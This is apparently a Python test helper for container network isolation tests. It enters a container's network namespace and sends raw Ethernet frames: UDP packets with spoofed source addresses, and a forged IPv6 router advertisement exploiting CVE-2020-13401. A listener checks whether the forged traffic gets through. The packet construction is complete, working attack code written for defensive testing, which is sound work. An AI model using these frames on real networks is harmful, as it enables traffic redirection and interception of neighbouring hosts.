"""Hand-made Ethernet frames sent from a container's network namespace, as a container with CAP_NET_RAW
(Docker's default set) can: the attacker of the spoofing tests. Run by the host's Python under nsenter."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

FRAME = """
import socket, struct, sys
dst_mac, src_mac = bytes.fromhex(sys.argv[1]), bytes.fromhex(sys.argv[2])
src_ip, dst_ip, port = sys.argv[3], sys.argv[4], int(sys.argv[5])
payload = b"spoofed"
udp = struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload
hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(src_ip),
                  socket.inet_aton(dst_ip))
csum = sum(struct.unpack("!10H", hdr))
while csum > 0xffff:
    csum = (csum & 0xffff) + (csum >> 16)
hdr = hdr[:10] + struct.pack("!H", ~csum & 0xffff) + hdr[12:]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
for _ in range(3):
    s.send(dst_mac + src_mac + b"\\x08\\x00" + hdr + udp)
print("sent", flush=True)
"""


def send_udp_frame(netns: Path, *, dst_mac: str, src_mac: str, src_ip: str, dst_ip: str, port: int) -> None:
    out = subprocess.run(["nsenter", f"--net={netns}", sys.executable, "-c", FRAME, dst_mac.replace(":", ""),
                          src_mac.replace(":", ""), src_ip, dst_ip, str(port)],
                         capture_output=True, text=True, timeout=30)
    assert out.stdout.strip() == "sent", out.stderr


LISTEN = """
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("0.0.0.0", int(sys.argv[1])))
print("ready", flush=True)
s.settimeout(float(sys.argv[2]))
try:
    data, addr = s.recvfrom(100)
    print(addr[0], data.decode(), flush=True)
except TimeoutError:
    print("nothing", flush=True)
"""


def udp_listener(netns: Path, port: int, wait: float) -> subprocess.Popen:
    """A UDP listener in `netns` that prints 'ready', then '<source ip> <data>' or 'nothing' after `wait` s."""
    p = subprocess.Popen(["nsenter", f"--net={netns}", sys.executable, "-c", LISTEN, str(port), str(wait)],
                         stdout=subprocess.PIPE, text=True)
    assert p.stdout.readline().strip() == "ready"
    return p


ROUTER_ADVERT = """
import socket, struct, sys
src_mac, prefix = bytes.fromhex(sys.argv[1]), socket.inet_pton(socket.AF_INET6, sys.argv[2])
eui = bytes([src_mac[0] ^ 2]) + src_mac[1:3] + b"\\xff\\xfe" + src_mac[3:]
src, dst = b"\\xfe\\x80" + bytes(6) + eui, socket.inet_pton(socket.AF_INET6, "ff02::1")
# type 134, code 0, checksum, hop limit 64, no flags, router lifetime 1800 s, reachable 0, retransmit 0
ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
ra += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0) + prefix  # prefix: on-link, autonomous (SLAAC)
ra += struct.pack("!BB", 1, 1) + src_mac  # the source's link-layer address
pseudo = src + dst + struct.pack("!I3xB", len(ra), 58)
data = pseudo + ra
csum = sum(struct.unpack(f"!{len(data) // 2}H", data))
while csum > 0xffff:
    csum = (csum & 0xffff) + (csum >> 16)
ra = ra[:2] + struct.pack("!H", ~csum & 0xffff) + ra[4:]
ip6 = struct.pack("!IHBB", 6 << 28, len(ra), 58, 255) + src + dst
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
for _ in range(3):
    s.send(bytes.fromhex("333300000001") + src_mac + b"\\x86\\xdd" + ip6 + ra)
print("sent", flush=True)
"""


def send_router_advert(netns: Path, *, src_mac: str, prefix: str) -> None:
    """A forged IPv6 router advertisement from `netns` to every node of the link: the router, and an
    autoconfigured /64 in `prefix` (CVE-2020-13401: a container with CAP_NET_RAW redirects its neighbours)."""
    out = subprocess.run(["nsenter", f"--net={netns}", sys.executable, "-c", ROUTER_ADVERT,
                          src_mac.replace(":", ""), prefix], capture_output=True, text=True, timeout=30)
    assert out.stdout.strip() == "sent", out.stderr
